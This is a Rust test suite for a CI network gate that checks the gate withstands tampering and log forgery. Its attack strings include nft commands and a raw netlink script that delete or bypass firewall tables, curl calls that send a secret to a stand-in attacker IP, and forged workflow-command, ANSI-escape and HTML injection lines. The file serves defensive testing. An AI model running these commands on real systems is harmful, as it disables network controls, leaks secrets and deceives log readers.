//! Attacks with privileges, and on what people read: the packet filter, the hooks' output, the job's summary.

mod life;

use anyhow::{Context, Result, ensure};
use life::{
    BLOCK, EXFILTRATE, Gate, Puppet, assert_gapless, assert_nothing_left, call, detections,
    our_tables,
};
use portcullis_common::event::{DetectionType, RecordedDetection, Verdict};
use portcullis_tests::job::StepKind;
use portcullis_tests::{JobOutcome, World, wait_until};

/// Ways in which root in the job attacks the packet filter. `$T` is our table's name.
const ATTACKS: [&str; 6] = [
    "nft flush ruleset",
    "nft delete table inet $T; nft delete table netdev $T",
    "nft add table inet early; nft 'add chain inet early out { type filter hook output priority -500; policy accept; }'; nft add rule inet early out accept",
    "nft flush chain inet $T output; nft insert rule inet $T output accept",
    "nft 'add table inet late; add chain inet late out { type nat hook output priority -300; }'; nft add rule inet late out ip daddr 203.0.113.66 meta l4proto tcp notrack",
    // By hand, without nft: NFT_MSG_DELTABLE (2) for our table, in a batch.
    r#"python3 - "$T" <<'END'
import os, socket, struct, sys
def message(kind, flags, family, payload=b"", resource=0):
    body = struct.pack(">BBH", family, 0, resource) + payload
    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
name = sys.argv[1].encode() + b"\0"
attribute = struct.pack("=HH", 4 + len(name), 1) + name + b"\0" * (-len(name) % 4)
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
s.send(message(16, 1, 0, resource=10) + message((10 << 8) | 2, 5, 1, attribute) + message(17, 1, 0, resource=10))
END"#,
];

/// P1: root in the job works on the packet filter. The twin: other people's tables, old and new, stay as they are.
#[test]
fn tampering_with_the_packet_filter_has_no_effect_and_is_recorded() -> Result<()> {
    let world = World::builder().build()?;
    let others = "table inet firewall { chain input { type filter hook input priority 0; policy accept; tcp dport 9 drop; }; }";
    world.runner_network().tool("nft", &["-f", "-"], Some(others))?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let tables = our_tables(&gate.world)?;
    let name = tables.first().and_then(|line| line.rsplit(' ').next()).context("no table")?;
    let listing =
        || gate.world.runner_network().tool("nft", &["list", "table", "inet", "firewall"], None);
    let firewall = listing()?;

    let twin = puppet.run(
        "sudo nft add table ip my_own && sudo nft 'add chain ip my_own out { type filter hook output priority 10; policy accept; }'",
    )?;
    ensure!(twin.succeeded(), "the job's own rules are its own business: {twin:?}");
    for attack in ATTACKS {
        // The flush takes other people's tables too; that is between the job and them.
        let done = puppet.run(&format!("cat >\"$PUPPET/attack.sh\" <<'ATTACK'\nT={name}\n{attack}\nATTACK\nsudo bash \"$PUPPET/attack.sh\""))?;
        let sent = puppet.run(EXFILTRATE)?;
        assert_eq!(our_tables(&gate.world)?, tables, "{attack}: {done:?} {sent:?}");
        let allowed = puppet.run(&call("ok.test"))?;
        ensure!(allowed.succeeded(), "{attack}: {allowed:?}");
        gate.world
            .attacker()
            .assert_untouched(&gate.canary)
            .with_context(|| format!("{attack}: {done:?} {sent:?}\n{}", gate.monitor.log()))?;
        if attack == ATTACKS[0] {
            gate.world.runner_network().tool("nft", &["-f", "-"], Some(others))?;
        }
    }
    assert_eq!(listing()?, firewall);
    wait_until("the findings", || {
        gate.last_events().is_ok_and(|events| {
            detections(&events)
                .filter(|event| {
                    event.detection == DetectionType::Recorded(RecordedDetection::FirewallTampering)
                })
                .count()
                >= 3
        })
    })?;
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    let named = detections(&events).any(|event| {
        event.detection == DetectionType::Recorded(RecordedDetection::FirewallTampering)
            && event.process.as_ref().is_some_and(|process| {
                process.pid.is_some()
                    && process.exe.as_deref().is_some_and(|exe| exe.contains("nft"))
            })
    });
    assert!(named, "{:#?}", detections(&events).collect::<Vec<_>>());
    assert!(result.summary().contains("Firewall-Tampering"), "{}", result.summary());
    assert_nothing_left(&gate.world)
}

/// An ordinary table of filter rules, which stops the attack as long as it is there.
const ORDINARY: &str = "
table inet ordinary {
    chain output {
        type filter hook output priority 100; policy accept;
        ip daddr 203.0.113.66 drop
        ip6 daddr 2001:db8::66 drop
    }
}
table netdev ordinary { }
";

/// Sends the secret by address, so that no name server is asked.
const CALL: &str = "curl -sSk --max-time 1 https://203.0.113.66/$S; curl -sSk --max-time 1 https://[2001:db8::66]/$S; true";

/// Without a gate each of these attacks works on rules that somebody else made, so that the test above can fail.
#[test]
fn without_a_gate_tampering_takes_other_rules_away() -> Result<()> {
    let world = World::builder().build()?;
    let canary = portcullis_tests::Canary::generate()?;
    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
    let listing = || world.runner_network().tool("nft", &["list", "tables"], None);
    // The third and the fifth take nothing away: an early verdict is not the last one, and conntrack is not asked.
    for attack in [ATTACKS[0], ATTACKS[1], ATTACKS[3], ATTACKS[5]] {
        world.runner_network().tool(
            "nft",
            &["-f", "-"],
            Some(&format!("flush ruleset\n{ORDINARY}")),
        )?;
        let before = world.attacker().packets()?;
        let stopped = puppet.run(CALL)?;
        ensure!(world.attacker().packets()? == before, "{attack}: {stopped:?}\n{}", listing()?);
        let done = puppet.run(&format!("cat >\"$PUPPET/attack.sh\" <<'ATTACK'\nT=ordinary\n{attack}\nATTACK\nsudo bash \"$PUPPET/attack.sh\""))?;
        let sent = puppet.run(CALL)?;
        ensure!(
            world.attacker().packets()? > before,
            "{attack}: {done:?} {sent:?}\n{}",
            listing()?
        );
    }
    puppet.finish()?;
    ensure!(world.attacker().saw(&canary)?);
    Ok(())
}

/// What no line of a log may begin with when the job did not write it, and what no summary may hold.
fn assert_harmless(log: &str, summary: &str) -> Result<()> {
    let commands = ["::stop-commands", "::error::forged", "::add-mask", "::set-output", "forged"];
    for line in log.lines() {
        ensure!(!commands.iter().any(|command| line.trim_start().starts_with(command)), "{line:?}");
    }
    ensure!(!log.contains('\u{1b}') && !log.contains('\r'), "{log:?}");
    ensure!(!summary.contains('\u{1b}'), "{summary:?}");
    for line in summary.lines() {
        // What stands between backticks is shown as it is.
        let outside: String = line.split('`').step_by(2).collect();
        ensure!(!line.starts_with("# forged") && !outside.contains("<img"), "{line:?}");
    }
    Ok(())
}

/// What a job says raw is what the check above looks for, so that the test below can fail.
#[test]
fn without_a_gate_forged_lines_and_marks_are_there() -> Result<()> {
    let world = World::builder().build()?;
    let script = "printf 'x\\n::error::forged\\r\\033[31m|`*\\n' >raw; printf '# forged <img src=x>\\n\\033[31m' >>\"$GITHUB_STEP_SUMMARY\"";
    let result = world.runner(0).run(&portcullis_tests::Job::script(script))?;
    let raw = std::fs::read_to_string(world.runner(0).directory().join("_work/hello/hello/raw"))?;
    ensure!(assert_harmless(&raw, "").is_err(), "{raw:?}");
    ensure!(assert_harmless("", &result.summary()).is_err(), "{:?}", result.summary());
    Ok(())
}

/// P6: names of programs, arguments and steps that forge log lines, and a summary that is overwritten.
#[test]
fn what_a_job_calls_things_stays_text() -> Result<()> {
    let gate = Gate::up(World::builder().build()?, &[("block", BLOCK)])?;
    let script = r#"
cd "$RUNNER_TEMP"
python3 - <<'END'
import os, shutil, socket, subprocess
hostile = "x\n::stop-commands::forged\n::error::forged\r\x1b[31m|`*<img src=x>\n# forged\n"
program = os.path.join(os.environ["RUNNER_TEMP"], hostile.replace("/", ""))
shutil.copy("/usr/bin/curl", program)
os.chmod(program, 0o755)
environment = dict(os.environ, GITHUB_ACTION=hostile)
for target in ("https://203.0.113.66/", "https://evil.test/", "https://evil.test/" + hostile.replace("\n", "%0a")):
    subprocess.run([program, "-sSk", "--max-time", "2", "-A", hostile, target], env=environment, stderr=subprocess.DEVNULL)
# Labels with everything that a terminal or a table takes for its own.
for label in (b"a|b", b"`code`", b"\x1b[2J", b"<img src=x>", b"new\nline"):
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\4evil\4test\0\0\1\0\1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(query, ("203.0.113.53", 53))
    try:
        s.recv(512)
    except OSError:
        pass
END
"#;
    // While the completed hook writes, somebody else overwrites its summary.
    let overwrite = r#"
cat >"$RUNNER_TEMP/overwrite.py" <<'END'
import glob, os
while True:
    for path in glob.glob(os.environ["RUNNER_TEMP"] + "/_runner_file_commands/*"):
        try:
            if os.path.basename(path).startswith("step_summary"):
                open(path, "w").write("all is well\n")
        except OSError:
            pass
END
"#;
    let post = format!(
        "{} --socket {} >raw",
        gate.world.root().join("opt/portcullis/bin/post-job").display(),
        gate.world.socket().display()
    );
    let result = gate.run(&gate.job(script).step(&call("ok.test")).step(&post))?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    // What the hook writes, before the runner makes annotations of it.
    let raw = gate.world.runner(0).directory().join("_work/hello/hello/raw");
    assert_harmless(&std::fs::read_to_string(raw)?, &result.summary())?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    let report = gate.last_report()?;
    let named = report.destinations.iter().any(|row| {
        row.endpoint == "203.0.113.66:443"
            && row.verdict == Verdict::Blocked
            && row.process.contains("forged")
    });
    assert!(named, "{report:#?}");
    // The summary's table has as many columns in every row.
    let summary = result.summary();
    let rows: Vec<&str> = summary
        .lines()
        .skip_while(|line| !line.starts_with("| Endpoint"))
        .take_while(|line| line.starts_with('|'))
        .collect();
    assert!(rows.len() > 4, "{summary}");
    for row in &rows {
        assert_eq!(row.replace("\\|", "").matches('|').count(), 8, "{row}");
    }

    let overwritten = gate.run(&gate.job(&format!(
        "{overwrite}\nsetsid --fork python3 \"$RUNNER_TEMP/overwrite.py\" </dev/null >/dev/null 2>&1\ncurl -sSk --max-time 2 https://203.0.113.66/$S\n{}",
        call("ok.test")
    )))?;
    let report = gate.last_report()?;
    assert!(
        report.destinations.iter().any(|row| row.endpoint == "203.0.113.66:443"),
        "{report:#?}\n{}",
        overwritten.log()
    );
    gate.assert_contained(&overwritten)?;
    // The log of the hook is out of the job's reach.
    let hook = overwritten.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    assert!(hook.log.contains("203.0.113.66"), "{}", hook.log);
    Ok(())
}
